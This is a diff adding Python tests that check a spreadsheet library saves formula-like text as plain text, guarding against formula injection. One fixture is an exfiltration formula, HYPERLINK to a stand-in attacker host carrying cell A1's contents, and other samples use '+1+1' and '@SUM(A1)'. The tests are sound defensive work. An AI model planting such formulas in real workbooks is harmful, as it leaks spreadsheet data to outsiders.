@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import re
+import zipfile
 from decimal import Decimal
 
 from openpyxl import Workbook, load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
+from hezuo.core import sheets
 from hezuo.core.sheets import (
     DATE_FORMAT,
     decimal_places,
@@ -93,3 +96,43 @@ def test_a_wide_table_prints_landscape_one_page_wide_with_its_headings_repeated(
     tabulate(narrow)
     set_up_printing(narrow, footer="&P")
     assert read_back(narrow).page_setup.orientation == "portrait"
+
+
+HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
+
+
+def _formulas(data: bytes) -> list[str]:
+    """The formulas the workbook's sheets hold, read from its XML as Excel would."""
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        return [
+            formula
+            for name in package.namelist()
+            if name.startswith("xl/worksheets/")
+            for formula in re.findall(r"<f>(.*?)</f>", package.read(name).decode())
+        ]
+
+
+def test_text_that_looks_like_a_formula_is_saved_as_text() -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append([HOSTILE, "+1+1", "@SUM(A1)", 3])
+    unsafe = io.BytesIO()
+    book.save(unsafe)
+    assert _formulas(unsafe.getvalue()), "openpyxl alone writes it as a formula"
+    out = io.BytesIO()
+    sheets.save_workbook(book, out)
+    assert _formulas(out.getvalue()) == []
+    reread = load_workbook(io.BytesIO(out.getvalue()))
+    assert [cell.value for cell in reread.worksheets[0][1]] == [HOSTILE, "+1+1", "@SUM(A1)", 3]
+
+
+def test_a_write_only_sheet_keeps_such_text_as_text() -> None:
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("list")
+    sheet.append([sheets.text_cell(sheet, value) for value in (HOSTILE, "plain", 7)])
+    out = io.BytesIO()
+    book.save(out)
+    assert _formulas(out.getvalue()) == []
+    reread = load_workbook(io.BytesIO(out.getvalue()))
+    assert [cell.value for cell in reread.worksheets[0][1]] == [HOSTILE, "plain", 7]
